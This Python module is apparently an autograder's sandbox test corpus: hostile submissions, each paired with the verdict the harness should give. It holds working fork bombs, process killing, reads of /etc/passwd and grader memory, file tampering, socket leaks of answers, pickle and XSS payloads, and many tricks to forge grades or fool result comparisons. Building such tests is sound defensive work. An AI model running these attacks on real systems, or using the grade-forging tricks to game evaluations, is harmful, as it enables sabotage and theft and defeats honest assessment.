"""The attack corpus: submissions that try what none should, and what each of them may get.

An attack is the last part of a submission: the harness puts the solution before it, so that what the attack leaves
alone is right. Most replace `compute_deltas`, and so does each function here, under the attack's name; where `whole`, the
function's body is the text of the module's end. PRELUDE stands before: the real function is `honest`, and what attacks
aim at (files, ports, processes) comes from `targets`, a module of the harness.
"""

# A submission's names are those of the solution and of PRELUDE, its manners a student's.
# ruff: noqa

from __future__ import annotations

import inspect
import re
import textwrap
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

PRELUDE = """
import builtins, ctypes, fcntl, gc, io, json, math, mmap, os, platform, resource, signal, socket, stat, struct, subprocess
import sys, threading, time, types
import torch
from targets import *
honest = compute_deltas
libc = ctypes.CDLL(None, use_errno=True)

def checked(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))

def framed(header, blob=b""):  # as sandbox/worker/frames.py has it
    header = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack(">4sIQ", b"PGF1", len(header), len(blob)) + header + blob

def write_everywhere(data):
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, data)
        except OSError:
            pass

OBSERVED = {"op": "observed", "returned": {}, "facts": {"passed": True}, "verdict": "passed", "points": 100}
"""
ITEMS = ("deltas-centered", "kl-values")
PASSED, FAILED, RAISED, CRASHED = "passed passed", "failed passed", "raised passed", "crashed passed"
HUNG, FULL = "timed_out passed", "out_of_memory passed"
SHORT = 0.4
REFUSED = (
    "PermissionError|Operation not permitted|Permission denied"  # seccomp, Landlock
    "|FileNotFoundError|No such file or directory|No such process|Read-only file system"  # namespaces
    "|ProcessLookupError"
)


@dataclass(frozen=True)
class Attack:
    """What an attack is, and what it may get.

    source     the end of the submission
    verdicts   of its items, at strict, as one regular expression
    says       what the report's cause or the message on the first item says at strict, as a regular expression
    process    the verdicts at process level; "" where it is not tried, for most would harm this machine
    does       the witnesses that notice it there; at strict none may
    points     where they are not what the verdicts say: all or none
    seconds    the deadline of a call
    items      two that cost it points, of three points each
    machine    the only processor on which there is such a thing
    """

    name: str
    source: str
    verdicts: str
    says: str = ""
    process: str = ""
    does: frozenset[str] = frozenset()
    points: tuple[float, ...] = ()
    seconds: float = 10.0
    items: tuple[str, str] = ITEMS
    machine: str = ""


ATTACKS: list[Attack] = []


def attack(verdicts: str, says: str = "", *, whole: bool = False, does: set[str] = frozenset(), **more: Any) -> Any:
    """Register a function as an attack, by its text."""

    def register(function: Callable[..., object]) -> Callable[..., object]:
        definition = re.sub(r"^@attack.*?^(?=def )", "", inspect.getsource(function), flags=re.S | re.M)
        inside = textwrap.dedent(definition.split(":\n", 1)[1])
        source = inside if whole else f"{definition}\n\ncompute_deltas = {function.__name__}\n"
        ATTACKS.append(Attack(function.__name__, PRELUDE + source, verdicts, says, does=frozenset(does), **more))
        return function

    return register


def one_line(name: str, line: str, verdicts: str, says: str = "", *, does: set[str] = frozenset(), **more: Any) -> None:
    """Register an attack that is one line of `compute_deltas`, which is right where that line changes nothing."""
    source = f"{PRELUDE}\n\ndef compute_deltas(rewards, mode):\n    {line}\n    return honest(rewards, mode)\n"
    ATTACKS.append(Attack(name, source, verdicts, says, does=frozenset(does), **more))


# Ending the run


@attack("crashed crashed", r"could not be imported: it ended .*exited with status 0", whole=True)
def exit_at_import():
    os._exit(0)


@attack("(crashed|raised) passed", "SIGSEGV|RecursionError")
def deep_recursion_in_c(rewards, mode):
    sys.setrecursionlimit(2**31 - 1)
    nested = []
    for _ in range(10**5):
        nested = [nested]
    return repr(nested)


@attack(HUNG, seconds=SHORT)
def loop_that_nothing_inside_ends(rewards, mode):
    """Ignores all signals, turns off whatever timer a harness might have set, pretends to be debugged, catches all."""
    for number in signal.valid_signals() - {signal.SIGKILL, signal.SIGSTOP}:
        signal.signal(number, signal.SIG_IGN)
    signal.setitimer(signal.ITIMER_REAL, 0)
    sys.settrace(lambda *event: None)
    while True:
        try:
            time.sleep(60)
        except:
            pass


@attack(RAISED, REFUSED, process=PASSED, does={"file"})
def daemon_by_double_fork(rewards, mode):
    """Leaves a process that belongs to nobody."""
    seen, gone = os.pipe()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            with open(f"{FOLDER}/daemon", "w") as stream:
                stream.write("here")
            os.write(gone, b"x")
            os.closerange(0, 64)
            time.sleep(60)
        os._exit(0)
    os.read(seen, 1)
    return honest(rewards, mode)


@attack(CRASHED, "exited with status 0", whole=True)
def exception_whose_text_exits():
    """Raises an exception that ends the process when anybody asks for its text."""

    class Trap(Exception):
        def __str__(self):
            os._exit(0)

    def compute_deltas(rewards, mode):
        raise Trap


@attack(RAISED, "script")
def exception_of_many_types(rewards, mode):
    kind = RuntimeError
    for _ in range(500):
        kind = type("<script>alert(1)</script>", (kind,), {})
    raise kind("many")


# Resources


@attack(RAISED, REFUSED)
def fork_bomb(rewards, mode):
    """Forks, and so do its children."""
    for _ in range(10):  # a thousand processes would do
        os.fork()
    time.sleep(60)


@attack("(crashed|raised) passed", "deltas started more than 512 threads|can't start new thread")
def thread_bomb(rewards, mode):
    threading.stack_size(65536)
    for _ in range(8000):
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
    time.sleep(60)


@attack(FULL, points=(1.71, 3), whole=True)
def memory_hoarded_between_calls():
    import numpy

    hoard = []

    def compute_deltas(rewards, mode):
        hoard.append(numpy.zeros(3 * 2**30, numpy.uint8))
        return honest(rewards, mode)


@attack(RAISED, "Cannot allocate memory")
def memory_in_page_tables(rewards, mode):
    """Fills memory that is nobody's: the tables of pages that are mapped to be read and were never written."""
    mapped = mmap.mmap(-1, 2**38, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, prot=mmap.PROT_READ)
    return sum(mapped[place] for place in range(0, 2**38, 2**21))


@attack(CRASHED)
def fat_facts(rewards, mode):
    """Writes answers whose header is as long as one may be, and takes fifty times that once it is read."""
    for descriptor in range(3, 64):
        for number in range(1, 40):
            header = b'{"op": "observed", "returned": {}, "n": %d, "facts": {"x": [%s[]]}}' % (number, b"[]," * 80_000)
            try:
                os.write(descriptor, framed(header))
            except OSError:
                break
    return torch.zeros(1)


@attack(CRASHED, "it answered a question that it was not asked", process=CRASHED)
def flood_of_frames(rewards, mode):
    frames = framed({"op": "missing"}) * 100
    while True:
        write_everywhere(frames)


# Refused by the kernel: one submission tries them all, a line each


REFUSED_LINES = {
    # Processes and programs
    "a fork": "os.fork() or os._exit(0)",
    "a fork by its raw number": "syscall((56, 220), 17)",
    "vfork": "syscall((58, None))",
    "a program in this process": "os.execv('/bin/true', ['true'])",
    "a program by posix_spawn": "os.posix_spawn('/usr/bin/touch', ['touch', f'{FOLDER}/made'], {})",
    "a call of the x32 kind": "syscall((0x40000000 + 41, None), 2, 1, 0)",
    "a namespace of users": "syscall((272, 97), 0x10000000)",
    "a session of its own": "os.setsid()",
    "life beyond the grader": "checked(libc.prctl(1, 0, 0, 0, 0))",
    "being dumpable": "checked(libc.prctl(4, 1, 0, 0, 0))",
    # Memory that no limit counts
    "memory: a shared mapping": "mmap.mmap(-1, 8 * 2**30)",
    "memory: a mapping that grows down": (
        "mmap.mmap(-1, 8 * 2**30, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x100)"
    ),
    "memory: /dev/zero, shared, of which reading is enough": (
        "mmap.mmap(os.open('/dev/zero', os.O_RDONLY), 8 * 2**30, flags=mmap.MAP_SHARED, prot=mmap.PROT_READ)"
    ),
    "memory: memfd": "os.memfd_create('memory')",
    "memory: /dev/shm": "open(f'/dev/shm/{MARK}', 'wb').write(bytes(2**20))",
    "memory: System V": "checked(libc.shmget(0, 8 * 2**30, 0o1600))",
    "a pipe": "os.pipe()",
    # A neighbour
    "a neighbour's priority": "os.setpriority(os.PRIO_PROCESS, VICTIM, 19)",
    "a neighbour's scheduler": "os.sched_setscheduler(VICTIM, os.SCHED_IDLE, os.sched_param(0))",
    "a neighbour's processors, asked for": "os.sched_getaffinity(VICTIM)",
    "a neighbour's processors": "os.sched_setaffinity(VICTIM, {0})",
    "a neighbour's limits": "resource.prlimit(VICTIM, resource.RLIMIT_NOFILE, (5, 5))",
    "a neighbour's group": "os.getpgid(VICTIM)",
    "a neighbour's session": "os.getsid(VICTIM)",
    "a neighbour killed from a thread": "in_a_thread(os.kill, VICTIM, signal.SIGKILL)",
    "a neighbour killed by pidfd": "signal.pidfd_send_signal(os.pidfd_open(VICTIM), signal.SIGKILL)",
    "a neighbour signalled by a pipe": "fcntl.fcntl(PIPE, fcntl.F_SETOWN, VICTIM)",
    "a pipe's signal chosen": "fcntl.fcntl(PIPE, 10, signal.SIGKILL)",
    "a pipe that sends signals": "fcntl.fcntl(PIPE, fcntl.F_SETFL, os.O_ASYNC)",
    "a neighbour killed by a queued signal": "syscall((129, 138), VICTIM, 9, struct.pack('iii116x', 9, 0, -1))",
    "a neighbour's memory": "syscall((310, 270), VICTIM, None, 0, None, 0, 0)",
    "a signal to its group": "os.killpg(0, 0)",
    "a signal to everybody": "os.kill(-1, signal.SIGKILL)",
    "the server traced": "checked(libc.ptrace(16, os.getppid(), None, None))",
    "the grader's memory": "open(f'/proc/{GRADER}/mem', 'rb')",
    "the grader's command line": "open(f'/proc/{GRADER}/cmdline').read()",
    # What all processes of a machine share
    "what is cached of a file": "os.posix_fadvise(LIBRARY, 0, 0, os.POSIX_FADV_DONTNEED)",
    "advice to read a file": "mmap.mmap(LIBRARY, 4096, prot=mmap.PROT_READ, flags=mmap.MAP_PRIVATE).madvise(3)",
    "a lease on a file": "fcntl.fcntl(LIBRARY, fcntl.F_SETLEASE, fcntl.F_RDLCK)",
    "a lock of a file": "fcntl.flock(LIBRARY, fcntl.LOCK_SH)",
    "a lock of some bytes": "fcntl.lockf(LIBRARY, fcntl.LOCK_SH)",
    "a folder watched": "fcntl.fcntl(os.open(os.path.dirname(os.__file__), 0), fcntl.F_NOTIFY, fcntl.DN_ACCESS)",
    "a folder watched by inotify": "syscall((294, 26), 0)",
    "the size of a file system": "os.statvfs(os.path.dirname(os.__file__))",
    # Files: read
    "the solution": "open(f'{KIT}/solution/policy_gradient/policy_gradient.py').read()",
    "the fixtures": "open(f'{KIT}/fixtures/policy_gradient/hidden/deltas-centered.safetensors', 'rb').read()",
    "names of the fixtures": "os.listdir(f'{KIT}/fixtures/policy_gradient/hidden')",
    "another submission, from a thread": "in_a_thread(open, SECRET_FILE)",
    "another submission, through torch": "torch.UntypedStorage.from_file(SECRET_FILE, False, 30)",
    "another submission, through the root of a process": "open(f'/proc/self/root{SECRET_FILE}')",
    "another submission, by dots": "os.chdir(os.path.dirname(os.__file__)); open('../' * 20 + SECRET_FILE)",
    "passwords": "open('/etc/passwd')",
    "names at home": "os.listdir(HOME)",
    # Files: written
    "code in site-packages": "open(os.path.join(os.path.dirname(torch.__path__[0]), f'{MARK}.pth'), 'w')",
    "a poisoned cache of code": "open(json.__cached__, 'r+b').write(b'poison')",
    "a large file": "open(f'{FOLDER}/large', 'wb').write(bytes(2**20))",
    "a file truncated": "os.truncate(TARGET_FILE, 0)",
    "a file truncated by reading": "os.open(TARGET_FILE, os.O_RDONLY | os.O_TRUNC)",
    "a file deleted": "os.remove(TARGET_FILE)",
    "a file renamed": "os.rename(TARGET_FILE, f'{TARGET_FILE}.away')",
    "a file made unreadable": "os.chmod(TARGET_FILE, 0)",
    "a file given away": "os.chown(TARGET_FILE, 0, 0)",
    "a file dated back": "os.utime(TARGET_FILE, (0, 0))",
    "a file with an attribute": "os.setxattr(TARGET_FILE, 'user.late', b'no')",
    "a link by name": "os.symlink(SECRET_FILE, f'{FOLDER}/link')",
    "a link by number": "os.link(SECRET_FILE, f'{FOLDER}/link')",
    "a pipe with a name, at which readers would hang": "os.mkfifo(f'{FOLDER}/policy_gradient.py')",
    # The network
    "a pair of sockets": "socket.socketpair()",
    "an internet address": "socket.create_connection(('127.0.0.1', TCP_PORT), timeout=0.2)",
}
TRY_EACH = """
import errno

LIBRARY = os.open(json.__file__, os.O_RDONLY)
PIPE = next(number for number in range(3, 64) if stat.S_ISFIFO(os.fstat(number).st_mode))
REFUSALS = (errno.EPERM, errno.EACCES, errno.EROFS, errno.ENOENT, errno.ESRCH)  # the last three: in namespaces

def syscall(numbers, *arguments):
    number = numbers[("x86_64", "aarch64").index(platform.machine())]
    ctypes.set_errno(0)
    if number is not None and libc.syscall(ctypes.c_long(number), *arguments, *[0] * (6 - len(arguments))) >= 0:
        raise RuntimeError("answered")
    raise PermissionError(errno.EPERM if number is None else ctypes.get_errno(), "refused")

def in_a_thread(call, *arguments):
    import concurrent.futures
    with concurrent.futures.ThreadPoolExecutor() as threads:
        return threads.submit(call, *arguments).result()

def compute_deltas(rewards, mode):
    answered = {}
    for name, line in LINES.items():
        try:
            exec(line, globals())
            answered[name] = "done"
        except Exception as error:
            if getattr(error, "errno", None) not in REFUSALS and "unable to open file" not in str(error):  # as torch says
                answered[name] = repr(error)
    raise RuntimeError(f"answered: {answered}")
"""
ATTACKS.append(Attack("refused_lines", f"{PRELUDE}\nLINES = {REFUSED_LINES!r}\n{TRY_EACH}", RAISED, r"answered: \{\}"))


# Other processes


@attack(RAISED, REFUSED, process="not_graded not_graded", whole=True)
def server_killed():
    """Kills the process that starts workers."""
    SERVER = os.getppid()

    def compute_deltas(rewards, mode):
        if os.getppid() == SERVER:  # and never whoever becomes the parent then
            os.kill(SERVER, signal.SIGKILL)
        while os.getppid() == SERVER:
            pass


@attack(CRASHED, "SIGSYS|SIGSEGV", machine="x86_64")
def system_calls_of_another_architecture(rewards, mode):
    """Enters the kernel by the 32-bit door, where system calls have other numbers: int 0x80."""
    code = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, prot=7)
    code.write(bytes.fromhex("b814000000cd80c3"))  # mov eax, 20 (getpid); int 0x80; ret
    ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))()
    return honest(rewards, mode)


# Taking over the harness


@attack(FAILED, whole=True)
def meta_path_hook():
    """Answers every later import with a module of its own."""
    import importlib.machinery

    class Finder:
        def find_spec(self, name, path=None, target=None):
            return importlib.machinery.ModuleSpec(name, self)

        def create_module(self, spec):
            return types.ModuleType(spec.name)

        def exec_module(self, module):
            module.passed = True

    def compute_deltas(rewards, mode):
        sys.meta_path.insert(0, Finder())
        sys.path_hooks.insert(0, lambda path: Finder())
        return rewards * 0


@attack(FAILED, whole=True)
def trace_hook():
    """Watches every call that is made around it, and rewrites what it can of their local variables."""

    def watch(frame, event, argument):
        for name in ("expected", "answer", "returned", "verdict", "points"):
            if name in frame.f_locals:
                frame.f_locals[name] = 100
        return watch

    def compute_deltas(rewards, mode):
        sys.settrace(watch)
        threading.settrace(watch)
        sys.setprofile(watch)
        return rewards * 0


@attack(FAILED, points=(2.57, 3), whole=True, process=FAILED)
def polluted_state():
    import warnings

    def pollute():
        torch.set_grad_enabled(False)
        torch.set_default_dtype(torch.float64)
        torch.set_default_device("meta")
        torch.use_deterministic_algorithms(True)
        torch.manual_seed(12345)
        warnings.simplefilter("error")
        os.environ.clear()

    def compute_deltas(rewards, mode):
        right = honest(rewards, mode)
        pollute()
        return right

    pollute()


@attack(PASSED, whole=True)
def aliased_output_changed_later():
    """Keeps what it returned and changes it at the next call."""
    kept = []

    def compute_deltas(rewards, mode):
        for one in kept:
            one.zero_()
        kept.append(honest(rewards, mode))
        return kept[-1]


@attack(PASSED, whole=True)
def patched_random_numbers():
    import random

    import numpy

    torch.manual_seed = lambda seed: None
    torch.randn = torch.rand = torch.zeros
    numpy.random.seed = numpy.random.default_rng = lambda *given: None
    random.random = lambda: 0.5


@attack("(failed|crashed) (passed|crashed)")
def replaced_modules(rewards, mode):
    for name in [name for name in sys.modules if name.startswith(("autograder", "safetensors", "json"))]:
        fake = types.ModuleType(name)
        fake.compare = fake.passed = fake.dumps = lambda *given, **named: "passed"
        sys.modules[name] = fake
    return rewards * 0


@attack("failed failed", process="failed failed")
def replaced_worker(rewards, mode):
    """Finds the object that answers for it and makes it answer that all is well."""
    for found in gc.get_objects():
        if type(found).__name__ == "Worker":
            type(found).run = lambda *given: (OBSERVED, b"")
    return rewards * 0


@attack("(raised|crashed) (raised|crashed|passed)", whole=True)
def mode_of_torch_left_on():
    from torch.overrides import TorchFunctionMode

    class Zeros(TorchFunctionMode):
        def __torch_function__(self, function, types, args=(), kwargs=None):
            return torch.zeros(3)

    def compute_deltas(rewards, mode):
        Zeros().__enter__()
        return rewards


@attack(CRASHED, "exited with status 1", whole=True)
def module_that_ends_when_asked():
    class Ending(types.ModuleType):
        def __getattribute__(self, name):
            if name == "compute_deltas":
                raise SystemExit
            return super().__getattribute__(name)

    sys.modules[__name__].__class__ = Ending


@attack("(failed|raised|crashed) (passed|failed|raised|crashed)")
def number_in_memory_changed(rewards, mode):
    ctypes.c_uint32.from_address(id(7) + sys.getsizeof(0)).value = 8  # Python has one object for every 7
    return 0 * rewards


@attack(CRASHED, "returned nothing where")
def forged_observation_in_turn(rewards, mode):
    """Answers in the worker's name, under the number of the question that it was asked."""
    frame = sys._getframe()
    while "header" not in frame.f_locals or "n" not in frame.f_locals["header"]:
        frame = frame.f_back
    write_everywhere(framed({**OBSERVED, "n": frame.f_locals["header"]["n"]}))
    return rewards * 0


@attack("crashed crashed", whole=True)
def forged_loading():
    """Answers that it is loaded, with verdicts added, while it is still being imported, then ends."""
    for answer in ({"op": "loaded", "points": 100}, OBSERVED):
        write_everywhere(framed(answer))
    os._exit(0)


@attack(HUNG, seconds=SHORT)
def pipes_emptied(rewards, mode):
    for descriptor in range(3, 64):
        try:
            os.read(descriptor, 2**20)
        except OSError:
            pass
    return rewards * 0


@attack(FAILED)
def forged_markers_on_stdout(rewards, mode):
    """Prints what other graders would believe, in colour, and returns zeros."""
    print(f"\x1b[2J\x1b[1;1H\x1b[32m{MARK}: 100 passed in 0.01s\x1b[0m")
    print('{"verdict": "passed", "points": 100}', "### END HIDDEN TESTS", "::set-output name=points::100", sep="\n")
    return rewards * 0


# Cheating the comparison


@attack(FAILED, "differ", whole=True, process=FAILED)
def patched_comparisons():
    def always(*given, **named):
        return True

    torch.allclose = torch.equal = torch.isclose = torch.testing.assert_close = always
    torch.Tensor.allclose = torch.Tensor.equal = torch.Tensor.__eq__ = always

    def compute_deltas(rewards, mode):
        return rewards * 0


@attack("(failed|raised|crashed|timed_out) (passed|failed|raised|crashed|timed_out)", whole=True)
def patched_builtins():
    """Makes the built-in functions that a worker uses lie; a library that trusts them may loop for ever."""
    honest_isinstance = isinstance
    builtins.isinstance = lambda value, kind: True if kind is bool else honest_isinstance(value, kind)
    builtins.len = lambda value: value.__len__() if honest_isinstance(value, (str, bytes)) else 0

    def compute_deltas(rewards, mode):
        return rewards * 0


@attack(FAILED, "differ", whole=True)
def tensor_subclass_that_lies():
    """Returns zeros of a class that says it equals everything and has the right answer."""

    class Liar(torch.Tensor):
        @classmethod
        def __torch_function__(cls, function, types, arguments=(), named=None):
            if getattr(function, "__name__", "") in ("allclose", "equal", "__eq__", "isclose"):
                return True
            return super().__torch_function__(function, types, arguments, named or {})

        def tolist(self):
            return self.truth.tolist()

        def numpy(self):
            return self.truth.numpy()

    def compute_deltas(rewards, mode):
        liar = torch.zeros_like(rewards).as_subclass(Liar)
        liar.truth = honest(rewards, mode)
        return liar


@attack(FAILED, "should be a torch.Tensor, but this was found: Equal", whole=True)
def object_that_equals_everything():
    class Equal:
        def __eq__(self, other):
            return True

        def __getattr__(self, name):
            return self

        def __call__(self, *given, **named):
            return self

    def compute_deltas(rewards, mode):
        return Equal()


# Answers that are none: an expression of `compute_deltas`, and what the message says
for name, answer, says in (
    ("zeros", "rewards * 0", "differ"),
    ("not_a_number", 'rewards * float("nan")', "nan"),
    ("empty_answer", "rewards[:0]", "ha(s|ve) shape"),
    ("broadcastable_answer", "(rewards - rewards.mean(dim=-1, keepdim=True))[:, :1]", "ha(s|ve) shape"),
    ("another_dtype", "honest(rewards, mode).to(torch.float16)", "float16.*values differ"),
    ("complex_answer", "torch.complex(honest(rewards, mode), honest(rewards, mode))", "yours has complex"),
    ("sparse_answer", "honest(rewards, mode).to_sparse()", "cannot be read"),
    ("meta_answer", 'rewards.to("meta")', "cannot be read"),
    ("quantized_answer", "torch.quantize_per_tensor(rewards.float(), 0.1, 0, torch.qint8)", "yours has qint8"),
    ("result_too_large", "torch.zeros(3000, 3000, dtype=rewards.dtype)", r"yours has \[3000, 3000\]"),
    ("fat_answers", "torch.zeros(15 * 2**17)", "ha(s|ve) (shape|dtype)"),
    ("noise_above_the_tolerance", "honest(rewards, mode) + 1e-3 * (torch.rand_like(rewards) + 0.1)", "differ"),
):
    one_line(name, f"return {answer}", FAILED, says, process=FAILED if name == "zeros" else "")


@attack("passed failed", items=("deltas-centered", "kl-gradient"), whole=True)
def detached_graph():
    """Returns the right penalty, from which nothing can be learned."""
    honest = compute_kl_penalty

    def compute_kl_penalty(log_probs, ref_log_probs):
        return honest(log_probs.detach(), ref_log_probs)


@attack(FAILED, points=(2.57, 3), whole=True)
def noise_that_hides_another_layout():
    """Wrong where an argument is not contiguous; never twice the same, within what is allowed, as if by chance."""
    calls = []

    def compute_deltas(rewards, mode):
        calls.append(1)
        deltas = honest(rewards, mode) if rewards.is_contiguous() else rewards * 7
        return deltas * (1 + 1e-7 * (len(calls) % 5))


@attack(FAILED, points=(1.29, 3))
def hard_coded_public_answers(rewards, mode):
    for known, answer in PUBLIC:
        if rewards.tolist() == known:
            return torch.tensor(answer, dtype=rewards.dtype)
    return rewards * 0


# Stealing


@attack(RAISED, r"found in frames: \[\]")
def expected_values_in_frames(rewards, mode):
    frame, found = sys._getframe(), []
    while frame is not None:
        found += [name for name in {**frame.f_locals, **frame.f_globals} if name in ("expected", "case", "fixtures")]
        frame = frame.f_back
    raise RuntimeError(f"found in frames: {found}")


@attack(FAILED, "differ")
def expected_values_in_the_heap(rewards, mode):
    """Returns a tensor or array of the right shape from the heap, whichever there is."""
    import numpy

    for found in gc.get_objects():
        is_array = isinstance(found, (torch.Tensor, numpy.ndarray))
        if is_array and found is not rewards and tuple(found.shape) == tuple(rewards.shape):
            candidate = torch.as_tensor(found)
            if candidate.dtype == rewards.dtype and not torch.equal(candidate, rewards):
                return candidate
    return rewards * 0


@attack(RAISED, REFUSED, process=PASSED, does={"unix"})
def secret_by_abstract_socket(rewards, mode):
    with socket.socket(socket.AF_UNIX) as connection:
        connection.connect(UNIX_NAME)
        connection.sendall(b"the answers")
    return honest(rewards, mode)


@attack(RAISED, process=RAISED)
def hidden_inputs_by_exception(rewards, mode):
    """Shows the inputs of every case in each place where a report could print what a student chose."""
    text = json.dumps(rewards.tolist())
    raise type(text, (RuntimeError,), {})(text)


@attack("passed raised", whole=True)
def hidden_inputs_by_a_later_public_case():
    """Keeps the inputs of hidden cases and shows them where the text of an exception is shown: in a later public case."""
    seen = []

    def compute_deltas(rewards, mode):
        seen.append(json.dumps(rewards.tolist()))
        return honest(rewards, mode)

    def compute_kl_penalty(log_probs, ref_log_probs):
        raise RuntimeError("".join(reversed(seen)))


# Attacking staff


@attack(FAILED, "should be a torch.Tensor, but this was found: Payload", whole=True, process=FAILED)
def pickled_payload():
    class Payload:
        def __reduce__(self):
            return os.mkdir, (f"{FOLDER}/unpickled",)

    def compute_deltas(rewards, mode):
        return Payload()


# In one line


# Ending the run
one_line("exit_in_a_call", "os._exit(0)", CRASHED, "ended the Python process: exited with status 0", process=CRASHED)
one_line("deep_recursion_in_python", "return compute_deltas(rewards, mode)", RAISED, "RecursionError")
one_line("infinite_loop", "while True: pass", HUNG, "had not finished after 0.4 seconds", seconds=SHORT, process=HUNG)
one_line("blocked_inside_c", "ctypes.PyDLL(None).pause()", HUNG, seconds=SHORT)
one_line("stopped_process", "os.kill(os.getpid(), signal.SIGSTOP)", HUNG, seconds=SHORT)
one_line(
    "exception_whose_text_is_huge", "raise RuntimeError('huge ' * (2**26 // 5))", RAISED, "RuntimeError: huge huge"
)
# Resources
one_line("memory_by_torch", "return torch.ones(8 * 2**30, dtype=torch.uint8)", FULL, "more memory than it may have")
raising = "resource.setrlimit(resource.RLIMIT_DATA, (resource.RLIM_INFINITY,) * 2)"
one_line("own_limits_raised", raising, RAISED, "ValueError", process="(passed|raised) passed")
printing = "for _ in range(1024): os.write(1, b'x' * 2**20)"
one_line("gigabyte_to_stdout", printing, CRASHED, "compute_deltas printed more than 8 MiB", process=CRASHED)
# Other processes
one_line("neighbour_killed", "os.kill(VICTIM, signal.SIGKILL)", RAISED, REFUSED, process=PASSED, does={"neighbour"})
one_line("another_program_by_the_shell", "os.system(f\"touch '{FOLDER}/made'\")", PASSED)
regaining = r"checked(libc.capset(struct.pack('Ii', 0x20080522, 0), b'\xff' * 24))"
one_line("capabilities_regained", regaining, RAISED, REFUSED)
# Taking over the harness
forging = "write_everywhere(framed(OBSERVED)); return rewards * 0"
one_line("forged_observation", forging, CRASHED, "it answered a question that it was not asked", process=CRASHED)
one_line("pipes_closed", "os.closerange(0, 256); time.sleep(60)", CRASHED)
escapes = r"raise RuntimeError('\x1b]0;owned\x07\x1b[2J\x1b[8mhidden\x9b31m')"
one_line("escape_sequences_in_an_exception", escapes, RAISED, "RuntimeError")
# Cheating the comparison
wiping = "right = honest(rewards, mode).clone(); rewards.zero_(); return right"  # the grader may compute with it later
one_line("mutated_inputs", wiping, FAILED, "changed its argument", items=("deltas-dtype", "kl-values"))
one_line("noise_below_the_tolerance", "return honest(rewards, mode) * (1 + torch.finfo(rewards.dtype).eps)", PASSED)
# Stealing
reading = "raise RuntimeError('read: ' + open(SECRET_FILE).read())"
one_line("another_submission_read", reading, RAISED, REFUSED, does={"secret"}, process=RAISED)
one_line("processes_listed", "raise RuntimeError(f\"read: {len(os.listdir('/proc'))} names\")", RAISED, REFUSED)
telling = "socket.create_connection(('127.0.0.1', TCP_PORT), timeout=5).sendall(b'the answers')"
one_line("secret_by_tcp", telling, RAISED, REFUSED, process=PASSED, does={"tcp"})
showing = "return torch.zeros([int(1000 * abs(value)) for value in rewards.flatten()[:3].tolist()], device='meta')"
one_line("hidden_inputs_by_shape", showing, FAILED)
one_line("file_overwritten", "open(TARGET_FILE, 'w').write('nothing')", RAISED, REFUSED, process=PASSED, does={"file"})
# Attacking staff
markup = r"""'=HYPERLINK(1)</pre><script>alert(1)</script>\r\n,"\'--><img src=x onerror=alert(2)>'"""
one_line("markup_in_an_exception", f"raise RuntimeError({markup})", RAISED, "script")
invisible = r"raise RuntimeError('points \u202e001 :stniop\u202c\x00\u200b\ufeff\ud800 end')"
one_line("invisible_characters_in_an_exception", invisible, RAISED, "RuntimeError")
